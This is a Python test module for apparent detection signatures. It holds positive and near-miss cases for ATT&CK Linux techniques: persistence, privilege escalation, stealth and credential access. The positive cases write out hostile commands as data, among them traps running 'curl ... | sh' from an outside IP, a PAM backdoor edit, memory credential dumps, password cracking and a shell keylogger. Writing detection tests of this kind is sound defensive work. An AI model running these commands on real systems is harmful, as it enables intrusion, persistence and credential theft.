"""Positive and near-miss cases of the signatures written for the ATT&CK Linux techniques
(see :mod:`.cases`, which merges these): each positive case is what a real tool or technique
test leaves in the report, each near miss what ordinary administration or programs do."""

from __future__ import annotations

from collections.abc import Callable

from .builder import APPEND, Builder

Case = Callable[[Builder], None]


# --- persistence -----------------------------------------------------------------------
def pos_persistence_systemd_timer(b: Builder) -> None:
    b.write("/etc/systemd/system/art-timer.timer")
    b.run(["systemctl", "enable", "art-timer.timer"])
    b.run(["systemd-run", "--unit=art", "--on-calendar", "*:0/1", "/bin/sh", "-c", "id"])


def neg_persistence_systemd_timer(b: Builder) -> None:
    b.read("/lib/systemd/system/apt-daily.timer")
    b.run(["systemctl", "list-timers"])
    b.run(["systemctl", "status", "apt-daily.timer"])
    b.run(["systemd-run", "--scope", "id"])
    apt = b.run(["apt-get", "install", "-y", "foo"])
    b.write("/lib/systemd/system/foo.timer", key=b.run(["dpkg", "--unpack", "x"], parent=apt))


def pos_persistence_at_job(b: Builder) -> None:
    b.shell("echo 'id > /tmp/at.out' | at now + 1 minute")
    b.write("/var/spool/cron/atjobs/a0000101a2b3c4", key=b.run(["at", "now"]))


def neg_persistence_at_job(b: Builder) -> None:
    b.run(["atq"])
    b.run(["at", "-l"])
    b.read("/var/spool/cron/atjobs/.SEQ")


def pos_persistence_python_startup_hook(b: Builder) -> None:
    b.write("/usr/lib/python3/dist-packages/zz_hook.pth")
    b.write("/root/.local/lib/python3.11/site-packages/usercustomize.py")


def neg_persistence_python_startup_hook(b: Builder) -> None:
    pip = b.run(["pip3", "install", "requests"], image="/usr/bin/pip3")
    b.write("/usr/local/lib/python3.11/dist-packages/distutils-precedence.pth", key=pip)
    venv = b.run(["python3", "-m", "venv", "/tmp/env"], image="/usr/bin/python3")
    b.write("/tmp/env/lib/python3.11/site-packages/_virtualenv.pth", key=venv)
    b.read("/usr/lib/python3.11/sitecustomize.py")


def pos_persistence_shell_trap(b: Builder) -> None:
    b.shell_script(
        "#!/bin/sh\n"
        'trap "nohup sh /tmp/art/echo-art-fish.sh | bash" EXIT\n'
        "trap 'curl -s http://203.0.113.5/x | sh' INT\n"
        "exit\n"
    )


def neg_persistence_shell_trap(b: Builder) -> None:
    b.shell_script(
        "#!/bin/sh\n"
        "tmp=$(mktemp)\ntrap 'rm -f \"$tmp\"; echo bye' EXIT INT TERM\n"
        "cleanup() { kill $pid; }\ntrap cleanup HUP\ntrap - INT\ntrap '' PIPE\n"
    )
    b.shell("trap 'exit 1' TERM; sleep 1")


def pos_persistence_prompt_command(b: Builder) -> None:
    b.shell_script("#!/bin/bash\nexport PROMPT_COMMAND='/tmp/.x/beacon >/dev/null 2>&1 &'\n")
    b.shell("PROMPT_COMMAND='curl -s http://203.0.113.5/p | sh'")


def neg_persistence_prompt_command(b: Builder) -> None:
    b.shell_script(
        "#!/bin/bash\n"
        'export PROMPT_COMMAND=\'printf "\\033]0;%s\\007" "$PWD"\'\n'
        "PROMPT_COMMAND=\nexport PS1='\\u@\\h:\\w\\$ '\n"
    )


def pos_persistence_package_manager_hook(b: Builder) -> None:
    b.write("/etc/apt/apt.conf.d/00aasee")
    b.run(["dpkg", "-i", "/tmp/.pkg/update.deb"], image="/usr/bin/dpkg")


def neg_persistence_package_manager_hook(b: Builder) -> None:
    b.read("/etc/apt/apt.conf.d/70debconf")
    apt = b.run(["apt-get", "install", "-y", "unattended-upgrades"])
    b.write("/etc/apt/apt.conf.d/20auto-upgrades", key=b.run(["dpkg", "-i", "x"], parent=apt))
    b.run(["dpkg", "-l"], image="/usr/bin/dpkg")
    b.run(["dpkg", "-i", "/srv/repo/tool_1.0_amd64.deb"], image="/usr/bin/dpkg")


def pos_persistence_web_shell(b: Builder) -> None:
    b.write("/var/www/html/uploads/.cache.php")
    b.rename("/tmp/x.jsp", "/var/lib/tomcat9/webapps/ROOT/status.jsp")


def neg_persistence_web_shell(b: Builder) -> None:
    b.write("/var/www/html/index.html")
    b.write("/var/www/html/css/site.css")
    b.read("/var/www/html/index.php")
    b.write("/tmp/notes.php")


def pos_persistence_login_scripts(b: Builder) -> None:
    b.write("/etc/update-motd.d/99-stats", flags="O_WRONLY|O_CREAT|O_TRUNC")
    b.write("/root/.ssh/rc", flags=APPEND)


def neg_persistence_login_scripts(b: Builder) -> None:
    b.read("/etc/update-motd.d/00-header")
    b.write("/root/.ssh/known_hosts", flags=APPEND)
    b.write("/etc/motd.tail.bak")


def pos_persistence_xdg_autostart(b: Builder) -> None:
    b.write("/home/alice/.config/autostart/gnome-updater.desktop")


def neg_persistence_xdg_autostart(b: Builder) -> None:
    b.read("/etc/xdg/autostart/org.gnome.Evolution-alarm-notify.desktop")
    b.write("/home/alice/.local/share/applications/editor.desktop")


def pos_persistence_browser_extension(b: Builder) -> None:
    b.write("/home/alice/.config/google-chrome/Default/Extensions/abcdef/1.0/manifest.json")
    b.write("/etc/opt/chrome/policies/managed/force.json")


def neg_persistence_browser_extension(b: Builder) -> None:
    firefox = b.run(["firefox"], image="/usr/lib/firefox-esr/firefox-esr")
    b.write("/home/alice/.mozilla/firefox/abc.default/extensions/ublock@x.xpi", key=firefox)
    b.read("/home/alice/.config/google-chrome/Default/Extensions/abcdef/1.0/manifest.json")


def pos_persistence_account_admin_group(b: Builder) -> None:
    b.run(["usermod", "-aG", "sudo", "art"], image="/usr/sbin/usermod")
    b.shell("gpasswd -a art docker")
    b.run(["adduser", "art", "wheel"], image="/usr/sbin/adduser")


def neg_persistence_account_admin_group(b: Builder) -> None:
    b.run(["usermod", "-aG", "audio,plugdev", "alice"], image="/usr/sbin/usermod")
    b.run(["groups", "alice"])
    b.run(["adduser", "--system", "svc"], image="/usr/sbin/adduser")
    b.run(["gpasswd", "-d", "alice", "sudo"], image="/usr/bin/gpasswd")


def pos_initial_access_dormant_account(b: Builder) -> None:
    b.run(["usermod", "--unlock", "art"], image="/usr/sbin/usermod")
    b.run(["usermod", "--expiredate", "99999", "art"], image="/usr/sbin/usermod")
    b.run(["chsh", "--shell", "/bin/bash", "nobody"], image="/usr/bin/chsh")
    b.run(["useradd", "-M", "-s", "/bin/bash", "evil_user"], image="/usr/sbin/useradd")
    b.run(["su", "-c", "whoami", "evil_user"], image="/bin/su")


def neg_initial_access_dormant_account(b: Builder) -> None:
    b.run(["usermod", "-c", "Alice A.", "alice"], image="/usr/sbin/usermod")
    b.run(["passwd", "-S", "root"], image="/usr/bin/passwd")
    b.run(["chage", "-l", "root"], image="/usr/bin/chage")
    b.run(["su", "-c", "id"], image="/bin/su")
    b.run(["usermod", "--lock", "art"], image="/usr/sbin/usermod")


# --- privilege escalation --------------------------------------------------------------
def pos_privesc_file_capabilities(b: Builder) -> None:
    b.run(["setcap", "cap_setuid+ep", "/tmp/cap"], image="/usr/sbin/setcap")
    b.shell("setcap cap_sys_admin,cap_dac_override=eip /tmp/.x/helper")


def neg_privesc_file_capabilities(b: Builder) -> None:
    b.run(["setcap", "cap_net_bind_service=+ep", "/usr/local/bin/app"], image="/usr/sbin/setcap")
    b.run(["setcap", "-r", "/tmp/cap"], image="/usr/sbin/setcap")
    b.run(["getcap", "/usr/bin/ping"], image="/usr/sbin/getcap")


def pos_privesc_sudo_rights_check(b: Builder) -> None:
    b.run(["sudo", "-l"], image="/usr/bin/sudo")
    cat = b.run(["cat", "/etc/sudoers"], image="/bin/cat")
    b.read("/etc/sudoers", key=cat)


def neg_privesc_sudo_rights_check(b: Builder) -> None:
    sudo = b.run(["sudo", "-u", "www-data", "id"], image="/usr/bin/sudo")
    b.read("/etc/sudoers", key=sudo)
    b.read("/etc/sudoers.d/README", key=sudo)


def pos_privesc_escape_to_host(b: Builder) -> None:
    b.run(["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"], image="/usr/bin/nsenter")
    b.run(["mount", "/dev/sda1", "/mnt/host"], image="/bin/mount")
    b.run(["docker", "run", "-v", "/:/host", "--rm", "alpine", "chroot", "/host"])
    b.write("/proc/sys/kernel/core_pattern", flags="O_WRONLY|O_TRUNC")


def neg_privesc_escape_to_host(b: Builder) -> None:
    b.run(["mount"], image="/bin/mount")
    b.run(["mount", "-t", "tmpfs", "tmpfs", "/tmp/scratch"], image="/bin/mount")
    b.run(["docker", "run", "--rm", "-v", "/srv/data:/data", "alpine", "ls", "/data"])
    b.run(["nsenter", "--help"], image="/usr/bin/nsenter")
    b.read("/proc/sys/kernel/core_pattern")


def pos_stealth_proc_memory_injection(b: Builder) -> None:
    b.write("/proc/1234/mem", flags="O_RDWR")
    b.run(["dd", "if=/tmp/sc.bin", "of=/proc/1234/mem", "bs=1", "seek=4198400"], image="/bin/dd")


def neg_stealth_proc_memory_injection(b: Builder) -> None:
    b.read("/proc/1234/mem")
    b.write("/proc/100/mem", flags="O_RDWR")  # its own
    b.write("/proc/self/attr/current", flags="O_WRONLY")


def pos_credential_proc_memory_dump(b: Builder) -> None:
    dd = b.run(
        ["dd", "if=/proc/4321/mem", "of=/tmp/heap.bin", "skip=94", "count=8"], image="/bin/dd"
    )
    b.read("/proc/4321/maps", key=dd)
    b.read("/proc/4321/mem", key=dd)
    b.run(["bash", "/tmp/mimipenguin.sh"], image="/bin/bash")


def neg_credential_proc_memory_dump(b: Builder) -> None:
    b.read("/proc/self/maps")
    b.read("/proc/100/mem")  # its own
    lsof = b.run(["lsof", "-p", "4321"], image="/usr/bin/lsof")
    b.read("/proc/4321/maps", key=lsof)


def pos_credential_pam_modified(b: Builder) -> None:
    sed = b.run(
        ["sed", "-i", "1s,^,auth sufficient pam_succeed_if.so uid >= 0\\n,g", "/etc/pam.d/su-l"]
    )
    b.write("/etc/pam.d/sedAb12Cd", key=sed)
    b.rename("/etc/pam.d/sedAb12Cd", "/etc/pam.d/su-l", key=sed)
    gcc = b.run(["gcc", "-shared", "-fPIC", "-o", "/usr/lib/x86_64-linux-gnu/security/pam_evil.so"])
    b.write("/usr/lib/x86_64-linux-gnu/security/pam_evil.so", key=gcc)


def neg_credential_pam_modified(b: Builder) -> None:
    b.read("/etc/pam.d/common-auth")
    update = b.run(["pam-auth-update", "--package"], image="/usr/sbin/pam-auth-update")
    b.write("/etc/pam.d/common-auth", key=update)
    apt = b.run(["apt-get", "install", "-y", "libpam-tmpdir"])
    b.write(
        "/lib/x86_64-linux-gnu/security/pam_tmpdir.so", key=b.run(["dpkg", "-i", "x"], parent=apt)
    )


# --- stealth ---------------------------------------------------------------------------
def pos_stealth_decode_payload(b: Builder) -> None:
    b.shell("echo ZWNobyBoaQ== | base64 -d > /tmp/art.sh")
    b.run(["xxd", "-r", "-p", "/tmp/hex.txt", "/tmp/out"], image="/usr/bin/xxd")
    b.run(
        ["python3", "-c", "import base64;print(base64.b64decode('aGk='))"], image="/usr/bin/python3"
    )


def neg_stealth_decode_payload(b: Builder) -> None:
    b.run(["base64", "/tmp/report.bin"], image="/usr/bin/base64")
    b.run(["xxd", "/tmp/a.bin"], image="/usr/bin/xxd")
    b.run(["openssl", "version"], image="/usr/bin/openssl")
    b.run(["python3", "-c", "print(1)"], image="/usr/bin/python3")


def pos_execution_decoded_payload_run(b: Builder) -> None:
    # "cat /tmp/encoded.dat | base64 -d > /tmp/art.sh": the shell opens the file, then forks.
    sh = b.run(["sh", "-c", "cat /tmp/encoded.dat | base64 -d > /tmp/art.sh"], image="/bin/sh")
    b.write("/tmp/art.sh", key=sh)
    b.run(["base64", "-d"], parent=sh, image="/usr/bin/base64")
    b.chmod("/tmp/art.sh", "0755")
    b.run(["/tmp/art.sh"])
    b.shell_script('#!/bin/sh\neval "$(echo aWQ= | base64 -d)"\n')


def neg_execution_decoded_payload_run(b: Builder) -> None:
    decoder = b.run(["base64", "-d", "/tmp/cert.b64"], image="/usr/bin/base64")
    b.write("/tmp/cert.der", key=decoder)
    b.run(["openssl", "x509", "-inform", "der", "-in", "/tmp/cert.der"])
    b.write("/tmp/tool")
    b.run(["/tmp/tool"])
    b.shell_script('#!/bin/sh\nv="$(echo aGk= | base64 -d)"\necho "$v"\n')


def pos_stealth_compile_after_delivery(b: Builder) -> None:
    gcc = b.run(["gcc", "-o", "/tmp/.x/r", "/tmp/.x/r.c"], image="/usr/bin/gcc")
    ld = b.run(["ld", "-o", "/tmp/.x/r"], parent=gcc, image="/usr/bin/ld")
    b.write("/tmp/.x/r", key=ld)
    b.run(["/tmp/.x/r"])
    b.run(["go", "run", "/tmp/implant.go"], image="/usr/local/go/bin/go")


def neg_stealth_compile_after_delivery(b: Builder) -> None:
    gcc = b.run(["gcc", "-c", "-o", "/tmp/lib.o", "/tmp/lib.c"], image="/usr/bin/gcc")
    b.write("/tmp/lib.o", key=gcc)
    b.run(["gcc", "--version"], image="/usr/bin/gcc")
    b.run(["go", "build", "./..."], image="/usr/local/go/bin/go")


def pos_stealth_binary_padding(b: Builder) -> None:
    cp = b.run(["cp", "/bin/ls", "/tmp/evil-binary"], image="/bin/cp")
    b.read("/bin/ls", key=cp)
    b.write("/tmp/evil-binary", key=cp)
    b.write("/tmp/evil-binary", flags="O_WRONLY|O_CREAT|O_APPEND")  # dd ... >> /tmp/evil-binary
    b.run(["truncate", "-s", "+500K", "/tmp/evil-binary"], image="/usr/bin/truncate")


def neg_stealth_binary_padding(b: Builder) -> None:
    b.write("/tmp/app.log", flags=APPEND)
    cp = b.run(["cp", "/bin/ls", "/tmp/myls"], image="/bin/cp")
    b.read("/bin/ls", key=cp)
    b.write("/tmp/myls", key=cp)
    b.run(["/tmp/myls"])
    b.run(["truncate", "-s", "0", "/tmp/app.log"], image="/usr/bin/truncate")


def pos_stealth_pack_binary(b: Builder) -> None:
    b.run(["upx", "--best", "-o", "/tmp/.p", "/tmp/payload"], image="/usr/bin/upx")


def neg_stealth_pack_binary(b: Builder) -> None:
    b.run(["upx", "-d", "/tmp/packed"], image="/usr/bin/upx")
    b.run(["upx", "--version"], image="/usr/bin/upx")


def pos_stealth_filename_trailing_space(b: Builder) -> None:
    b.write("/tmp/atomic/testdirwithspaceend /init  ")
    b.run(["./testdirwithspaceend /init  "], image="/tmp/atomic/testdirwithspaceend /init  ")


def neg_stealth_filename_trailing_space(b: Builder) -> None:
    b.write("/tmp/my report.txt")
    b.run(["/tmp/my tool"], image="/tmp/my tool")


def pos_stealth_renamed_system_utility(b: Builder) -> None:
    cp = b.run(["cp", "-i", "/bin/sh", "/tmp/crond"], image="/bin/cp")
    b.read("/bin/sh", key=cp)
    b.write("/tmp/crond", key=cp)
    b.run(["/tmp/crond"])
    b.link("/tmp/.k", "/usr/bin/python3")
    b.run(["/tmp/.k", "-c", "print(1)"])


def neg_stealth_renamed_system_utility(b: Builder) -> None:
    cp = b.run(["cp", "/bin/true", "./mytrue"], image="/bin/cp", cwd="/tmp")
    b.read("/bin/true", key=cp)
    b.write("/tmp/mytrue", key=cp)
    b.run(["/tmp/mytrue"])
    cp2 = b.run(["cp", "/bin/busybox", "/tmp/busybox"], image="/bin/cp")
    b.read("/bin/busybox", key=cp2)
    b.write("/tmp/busybox", key=cp2)
    b.run(["/tmp/busybox", "ls"])  # the same name


def pos_stealth_hidden_system_file(b: Builder) -> None:
    b.mkdir("/usr/lib/.ssh-cache")
    b.write("/usr/lib/.ssh-cache/kthreadd")
    b.run(["/usr/lib/.ssh-cache/kthreadd"])
    b.write("/dev/.udev-cache")


def neg_stealth_hidden_system_file(b: Builder) -> None:
    useradd = b.run(["useradd", "bob"], image="/usr/sbin/useradd")
    b.write("/etc/.pwd.lock", key=useradd)
    b.write("/usr/lib/debug/.build-id/ab/cdef.debug")
    b.write("/root/.bashrc", flags=APPEND)
    b.write("/dev/shm/.lock")
    b.mkdir("/home/alice/.cache")


def pos_stealth_proc_bind_mount(b: Builder) -> None:
    b.run(["mount", "--bind", "/tmp/empty", "/proc/4242"], image="/bin/mount")
    b.shell("mount -o bind /var/tmp/e /proc/4343")


def neg_stealth_proc_bind_mount(b: Builder) -> None:
    b.run(["mount", "--bind", "/srv/data", "/mnt/data"], image="/bin/mount")
    b.run(["mount", "-o", "remount,hidepid=2", "/proc"], image="/bin/mount")


def pos_stealth_path_interception(b: Builder) -> None:
    b.shell_script("#!/bin/sh\nexport PATH=/tmp/.bin:$PATH\nls\n")
    b.shell("PATH=.:$PATH sudo -l")


def neg_stealth_path_interception(b: Builder) -> None:
    b.shell_script(
        "#!/bin/sh\nexport PATH=/usr/local/bin:$PATH\nPATH=$PATH:/tmp/tools\n"
        "PATH=/usr/sbin:/usr/bin:/sbin:/bin:/tmp\n"
    )


def pos_stealth_mail_spool_cleared(b: Builder) -> None:
    b.write("/var/spool/mail/root")  # echo 0> /var/spool/mail/root
    rm = b.run(["rm", "-rf", "/var/spool/mail/copy/alice"], image="/bin/rm")
    b.delete("/var/spool/mail/copy/alice", key=rm)


def neg_stealth_mail_spool_cleared(b: Builder) -> None:
    b.read("/var/mail/root")
    mutt = b.run(["mutt", "-f", "/var/mail/root"], image="/usr/bin/mutt")
    b.write("/var/mail/root", key=mutt)
    b.write("/var/mail/root", flags=APPEND)


def pos_stealth_system_time_changed(b: Builder) -> None:
    b.run(["date", "-s", "1990-01-01"], image="/bin/date")
    b.syscall("clock_settime")


def neg_stealth_system_time_changed(b: Builder) -> None:
    b.run(["date", "+%F"], image="/bin/date")
    b.run(["timedatectl", "status"], image="/usr/bin/timedatectl")
    ntp = b.run(["chronyd"], image="/usr/sbin/chronyd")
    b.syscall("clock_settime", key=ntp)
    b.syscall("adjtimex")


# --- defense impairment ----------------------------------------------------------------
def pos_impair_aslr_disabled(b: Builder) -> None:
    b.run(["sysctl", "-w", "kernel.randomize_va_space=0"], image="/sbin/sysctl")
    b.write("/proc/sys/kernel/randomize_va_space", flags="O_WRONLY|O_TRUNC")
    b.run(["setarch", "x86_64", "-R", "/tmp/vuln"], image="/usr/bin/setarch")


def neg_impair_aslr_disabled(b: Builder) -> None:
    b.read("/proc/sys/kernel/randomize_va_space")
    b.run(["sysctl", "kernel.randomize_va_space"], image="/sbin/sysctl")
    b.run(["sysctl", "-w", "kernel.randomize_va_space=2"], image="/sbin/sysctl")


def pos_impair_kernel_hardening(b: Builder) -> None:
    b.run(["sysctl", "-w", "kernel.yama.ptrace_scope=0"], image="/sbin/sysctl")
    b.write("/proc/sys/kernel/kptr_restrict", flags="O_WRONLY|O_TRUNC")


def neg_impair_kernel_hardening(b: Builder) -> None:
    b.run(["sysctl", "-a"], image="/sbin/sysctl")
    b.run(["sysctl", "-w", "vm.swappiness=10"], image="/sbin/sysctl")
    b.run(["sysctl", "-w", "kernel.yama.ptrace_scope=2"], image="/sbin/sysctl")
    b.read("/proc/sys/kernel/kptr_restrict")


def pos_impair_memory_forensics(b: Builder) -> None:
    b.shell("free && echo 3 > /proc/sys/vm/drop_caches && free")
    b.write("/proc/sys/vm/drop_caches", flags="O_WRONLY|O_TRUNC")
    b.run(["swapoff", "-a"], image="/sbin/swapoff")


def neg_impair_memory_forensics(b: Builder) -> None:
    b.run(["free", "-m"], image="/usr/bin/free")
    b.run(["swapon", "--show"], image="/sbin/swapon")
    b.read("/proc/sys/vm/drop_caches", ok=False)


def pos_impair_root_certificate(b: Builder) -> None:
    b.rename("/tmp/rootCA.crt", "/usr/local/share/ca-certificates/rootCA.crt")
    b.run(["update-ca-certificates"], image="/usr/sbin/update-ca-certificates")


def neg_impair_root_certificate(b: Builder) -> None:
    b.read("/etc/ssl/certs/ca-certificates.crt")
    b.run(["openssl", "x509", "-in", "/tmp/site.crt", "-text"], image="/usr/bin/openssl")
    apt = b.run(["apt-get", "install", "-y", "ca-certificates"])
    b.write(
        "/usr/share/ca-certificates/mozilla/New_CA.crt", key=b.run(["dpkg", "-i", "x"], parent=apt)
    )


def pos_impair_file_permissions(b: Builder) -> None:
    b.run(["chmod", "-R", "755", "/tmp/AtomicRedTeam/atomics/T1222.002"], image="/bin/chmod")
    b.run(["chown", "root", "/tmp/evilBinary"], image="/bin/chown")
    b.chmod("/etc/passwd", "0666")


def neg_impair_file_permissions(b: Builder) -> None:
    b.write("/tmp/x")
    b.run(["chmod", "+x", "/tmp/x"], image="/bin/chmod")
    b.chmod("/tmp/x", "0755")
    b.mkdir("/root/.ssh")
    b.run(["chmod", "700", "/root/.ssh"], image="/bin/chmod")
    b.run(["chown", "--help"], image="/bin/chown")


# --- credential access -----------------------------------------------------------------
def pos_credential_file_search(b: Builder) -> None:
    b.run(["find", "/", "-name", "credentials", "-type", "f", "-path", "*/.aws/*"])
    b.run(["grep", "-ri", "password", "/"], image="/bin/grep")
    b.shell("for f in $(find / -name .netrc 2>/dev/null); do cat $f; done")


def neg_credential_file_search(b: Builder) -> None:
    b.run(["find", "/tmp", "-name", "*.log"])
    b.run(["grep", "-r", "TODO", "/srv/src"], image="/bin/grep")
    b.run(["grep", "password", "/tmp/notes.txt"], image="/bin/grep")


def pos_credential_private_key_search(b: Builder) -> None:
    b.run(["find", "/", "-name", "id_rsa", "-exec", "cp", "--parents", "{}", "/tmp/k", ";"])
    b.run(["rsync", "-R", "/root/.gnupg", "/tmp/gpg-copy"], image="/usr/bin/rsync")


def neg_credential_private_key_search(b: Builder) -> None:
    b.run(["find", "/etc", "-name", "*.conf"])
    b.run(["cp", "/root/.ssh/known_hosts", "/tmp/kh"], image="/bin/cp")
    b.run(["locate", "bashrc"], image="/usr/bin/locate")


def pos_credential_container_secrets(b: Builder) -> None:
    b.read("/var/run/secrets/kubernetes.io/serviceaccount/token")
    b.run(["kubectl", "get", "secrets", "-A"], image="/usr/local/bin/kubectl")


def neg_credential_container_secrets(b: Builder) -> None:
    b.run(["kubectl", "get", "pods"], image="/usr/local/bin/kubectl")
    kubelet = b.run(["kubelet"], image="/usr/bin/kubelet")
    b.read("/var/run/secrets/kubernetes.io/serviceaccount/token", key=kubelet)


def pos_credential_cloud_metadata(b: Builder) -> None:
    curl = b.run(["curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"])
    b.connect("169.254.169.254", 80, key=curl)


def neg_credential_cloud_metadata(b: Builder) -> None:
    b.connect("169.254.1.10", 80)
    b.dns("metadata.example.com")
    b.run(["curl", "http://203.0.113.5/meta-data"])


def pos_credential_browser_data(b: Builder) -> None:
    py = b.run(["python3", "/tmp/lazagne.py"], image="/usr/bin/python3")
    b.read("/home/alice/.mozilla/firefox/abc.default-release/logins.json", key=py)
    b.read("/home/alice/.mozilla/firefox/abc.default-release/key4.db", key=py)
    b.read("/root/.config/google-chrome/Default/Login Data", key=py)


def neg_credential_browser_data(b: Builder) -> None:
    firefox = b.run(["firefox"], image="/usr/lib/firefox-esr/firefox-esr")
    b.read("/home/alice/.mozilla/firefox/abc.default-release/logins.json", key=firefox)
    b.read("/home/alice/.mozilla/firefox/abc.default-release/prefs.js")


def pos_credential_password_stores(b: Builder) -> None:
    b.read("/home/alice/.local/share/keyrings/login.keyring")
    b.read("/srv/share/passwords.kdbx")
    b.run(["secret-tool", "search", "--all", "service", "ssh"], image="/usr/bin/secret-tool")


def neg_credential_password_stores(b: Builder) -> None:
    keyring = b.run(["gnome-keyring-daemon"], image="/usr/bin/gnome-keyring-daemon")
    b.read("/home/alice/.local/share/keyrings/login.keyring", key=keyring)
    b.run(["secret-tool", "store", "--label=x", "service", "ssh"], image="/usr/bin/secret-tool")


def pos_credential_kerberos_tickets(b: Builder) -> None:
    b.read("/tmp/krb5cc_1000")
    b.read("/etc/krb5.keytab")


def neg_credential_kerberos_tickets(b: Builder) -> None:
    klist = b.run(["klist"], image="/usr/bin/klist")
    b.read("/tmp/krb5cc_1000", key=klist)
    b.read("/etc/krb5.conf")


def pos_credential_network_sniffing(b: Builder) -> None:
    b.run(["tcpdump", "-c", "5", "-nnni", "eth0"], image="/usr/sbin/tcpdump")
    b.run(["ip", "link", "set", "eth0", "promisc", "on"], image="/usr/sbin/ip")


def neg_credential_network_sniffing(b: Builder) -> None:
    b.run(["tcpdump", "-D"], image="/usr/sbin/tcpdump")
    b.run(["tcpdump", "-r", "/tmp/old.pcap"], image="/usr/sbin/tcpdump")
    b.run(["ip", "link", "set", "eth0", "up"], image="/usr/sbin/ip")


def pos_credential_arp_spoofing(b: Builder) -> None:
    b.run(["arpspoof", "-i", "eth0", "-t", "10.0.2.20", "10.0.2.2"], image="/usr/sbin/arpspoof")
    b.run(["ettercap", "-T", "-M", "arp:remote", "/10.0.2.2//", "/10.0.2.20//"])


def neg_credential_arp_spoofing(b: Builder) -> None:
    b.run(["arp", "-a"], image="/usr/sbin/arp")
    b.run(["ettercap", "-T", "-i", "eth0"])


def pos_credential_password_cracking(b: Builder) -> None:
    b.run(["unshadow", "/etc/passwd", "/etc/shadow"], image="/usr/sbin/unshadow")
    b.run(["john", "--wordlist=/tmp/w.txt", "/tmp/hashes"], image="/usr/sbin/john")


def neg_credential_password_cracking(b: Builder) -> None:
    b.run(["openssl", "passwd", "-1", "password123"], image="/usr/bin/openssl")
    b.run(["john", "--help"], image="/usr/sbin/john")


def pos_credential_password_guessing(b: Builder) -> None:
    for password in ("123456", "password", "letmein"):
        b.shell(f"echo {password} | sudo -S -l")
    b.run(["hydra", "-l", "root", "-P", "/tmp/w.txt", "ssh://10.0.2.20"], image="/usr/bin/hydra")


def neg_credential_password_guessing(b: Builder) -> None:
    b.shell("echo secret | sudo -S apt-get update")
    b.run(["su", "-c", "id"], image="/bin/su")
    b.run(["sudo", "-n", "true"], image="/usr/bin/sudo")


def pos_collection_shell_keylogger(b: Builder) -> None:
    b.shell_script(
        "#!/bin/bash\n"
        'trap \'echo "$(date +"%d/%m/%y %H:%M:%S.%s") $USER $BASH_COMMAND"\''
        "' >> /tmp/.keyboard.log' DEBUG\n"
        "PROMPT_COMMAND='history -a >(tee -a ~/.bash_history | logger -t \"$USER[$$]\")'\n"
    )
    b.read("/dev/input/event0")


def neg_collection_shell_keylogger(b: Builder) -> None:
    b.shell_script(
        "#!/bin/bash\ntrap 'echo -ne \"\\033]0;$PWD\\007\"' DEBUG\n"
        'PROMPT_COMMAND=\'printf "\\033]0;%s\\007" "$PWD"\'\n'
    )
    xorg = b.run(["Xorg", ":0"], image="/usr/lib/xorg/Xorg")
    b.read("/dev/input/event0", key=xorg)


# --- discovery -------------------------------------------------------------------------
def pos_discovery_security_software(b: Builder) -> None:
    b.shell("ps aux | egrep 'falcond|nessusd|cbagentd|td-agent|packetbeat|filebeat|auditbeat'")
    b.run(["pgrep", "-l", "osqueryd|wazuh-agent"], image="/usr/bin/pgrep")
    b.listdir("/opt/CrowdStrike")


def neg_discovery_security_software(b: Builder) -> None:
    b.shell("ps aux | grep nginx")
    b.run(["systemctl", "status", "ssh"])
    b.run(["grep", "-i", "reset", "/tmp/notes"], image="/bin/grep")


def pos_discovery_system_services(b: Builder) -> None:
    b.run(["systemctl", "--type=service"])
    b.run(["service", "--status-all"], image="/usr/sbin/service")


def neg_discovery_system_services(b: Builder) -> None:
    b.run(["systemctl", "restart", "nginx"])
    b.run(["systemctl", "is-active", "ssh"])
    b.run(["service", "nginx", "reload"], image="/usr/sbin/service")


def pos_discovery_permission_groups(b: Builder) -> None:
    b.run(["groups"], image="/usr/bin/groups")
    b.run(["getent", "group"], image="/usr/bin/getent")
    cat = b.run(["cat", "/etc/group"], image="/bin/cat")
    b.read("/etc/group", key=cat)


def neg_discovery_permission_groups(b: Builder) -> None:
    ls = b.run(["ls", "-l", "/home"], image="/bin/ls")
    b.read("/etc/group", key=ls)
    b.run(["id", "-u"], image="/usr/bin/id")
    b.run(["getent", "hosts", "localhost"], image="/usr/bin/getent")


def pos_discovery_domain_accounts(b: Builder) -> None:
    b.run(
        [
            "ldapsearch",
            "-H",
            "ldap://10.0.2.20",
            "-x",
            "-b",
            "DC=corp,DC=local",
            "(objectclass=user)",
        ],
        image="/usr/bin/ldapsearch",
    )
    b.run(["wbinfo", "-u"], image="/usr/bin/wbinfo")


def neg_discovery_domain_accounts(b: Builder) -> None:
    b.run(["wbinfo", "--ping-dc"], image="/usr/bin/wbinfo")
    b.run(["net", "ads", "testjoin"], image="/usr/bin/net")
    b.run(["ldapsearch", "--help"], image="/usr/bin/ldapsearch")


def pos_discovery_password_policy(b: Builder) -> None:
    cat = b.run(["cat", "/etc/pam.d/common-password"], image="/bin/cat")
    b.read("/etc/pam.d/common-password", key=cat)
    b.run(["chage", "-l", "root"], image="/usr/bin/chage")


def neg_discovery_password_policy(b: Builder) -> None:
    useradd = b.run(["useradd", "bob"], image="/usr/sbin/useradd")
    b.read("/etc/login.defs", key=useradd)
    b.read("/etc/pam.d/common-password", key=b.run(["passwd"], image="/usr/bin/passwd"))


def pos_discovery_browser_information(b: Builder) -> None:
    b.run(["find", "/", "-path", "*.mozilla/firefox/*/places.sqlite"])
    cat = b.run(["cat", "/root/.config/google-chrome/Default/Bookmarks"], image="/bin/cat")
    b.read("/root/.config/google-chrome/Default/Bookmarks", key=cat)


def neg_discovery_browser_information(b: Builder) -> None:
    firefox = b.run(["firefox"], image="/usr/lib/firefox-esr/firefox-esr")
    b.read("/home/alice/.mozilla/firefox/abc.default/places.sqlite", key=firefox)
    b.run(["find", "/srv", "-name", "*.html"])


def pos_discovery_network_shares(b: Builder) -> None:
    b.run(["smbstatus", "--shares"], image="/usr/bin/smbstatus")
    b.run(["showmount", "-e", "10.0.2.20"], image="/sbin/showmount")
    b.run(["smbclient", "-L", "//10.0.2.20", "-N"], image="/usr/bin/smbclient")


def neg_discovery_network_shares(b: Builder) -> None:
    b.run(["smbclient", "//10.0.2.20/public", "-c", "ls"], image="/usr/bin/smbclient")
    b.run(["showmount", "--version"], image="/sbin/showmount")
    smbd = b.run(["smbd"], image="/usr/sbin/smbd")
    b.read("/etc/samba/smb.conf", key=smbd)


def pos_discovery_remote_systems(b: Builder) -> None:
    for n in range(1, 5):
